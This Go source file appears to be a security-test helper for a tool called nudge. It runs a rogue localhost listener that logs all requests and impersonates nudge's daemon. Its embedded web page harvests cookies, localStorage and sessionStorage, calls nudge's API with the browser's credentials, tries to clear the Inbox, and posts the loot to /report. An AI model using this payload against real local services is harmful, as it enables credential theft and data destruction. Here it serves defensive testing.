// Command snoop is the other side of the security tests: a listener on a
// 127.0.0.1 port that is not nudge's — a dev server an agent started, or
// another user holding the port nudge used before it crashed. It records
// every connection and request it gets, whole, one JSON object per line,
// and serves a page that tries everything a web page can against nudge's
// Inbox window (docs/security.md).
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"

	"nudge/e2e/snoop"
)

// page is served at "/": with ?target=<nudge's page address> it reads what
// the browser lets it read, asks nudge's API with the browser's
// credentials, tries to clear the Inbox, and posts what it got to /report.
const page = `<!doctype html><meta charset="utf-8"><title>dev server</title>
<script>
(async () => {
  const target = new URLSearchParams(location.search).get('target');
  const got = {cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage)};
  for (const p of ['api/entries', 'api/status', 'api/events']) {
    try { const r = await fetch(target + p, {credentials: 'include'}); got[p] = r.status + ' ' + (await r.text()); }
    catch (e) { got[p] = 'error ' + e; }
  }
  try { await fetch(target + 'api/entries/clear', {method: 'POST', mode: 'no-cors', credentials: 'include'}); got.clear = 'sent'; }
  catch (e) { got.clear = 'error ' + e; }
  await fetch('/report', {method: 'POST', body: JSON.stringify(got)});
  document.title = 'reported';
})();
</script>`

func main() {
	listen := flag.String("listen", "127.0.0.1:0", "address to listen on; unix:PATH for a Unix socket")
	record := flag.String("record", "", "file to append the requests to")
	flag.Parse()
	out, err := os.OpenFile(*record, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		log.Fatal(err)
	}
	var mu sync.Mutex
	write := func(r snoop.Request) {
		mu.Lock()
		defer mu.Unlock()
		b, _ := json.Marshal(r)
		out.Write(append(b, '\n'))
	}
	network, address := "tcp", *listen
	if path, ok := strings.CutPrefix(*listen, "unix:"); ok {
		network, address = "unix", path
	}
	ln, err := net.Listen(network, address)
	if err != nil {
		log.Fatal(err)
	}
	if network == "unix" {
		os.Chmod(address, 0o777) // anyone may connect, as to a planted socket
	}
	fmt.Println(ln.Addr()) // the test waits for this line
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
			write(snoop.Request{Method: r.Method, URL: r.URL.String(), Header: r.Header, Body: string(body)})
			if r.URL.Path == "/" {
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				io.WriteString(w, page)
				return
			}
			// Play nudge's daemon: take anything and say it worked.
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"url":"http://127.0.0.1:1/#launch=`+fmt.Sprintf("%064d", 0)+`","daemon":{"pid":1,"ready":true}}`)
		}),
		ConnState: func(c net.Conn, s http.ConnState) {
			if s == http.StateNew {
				write(snoop.Request{Method: "CONNECT", URL: c.RemoteAddr().String()})
			}
		},
	}
	log.Fatal(srv.Serve(ln))
}
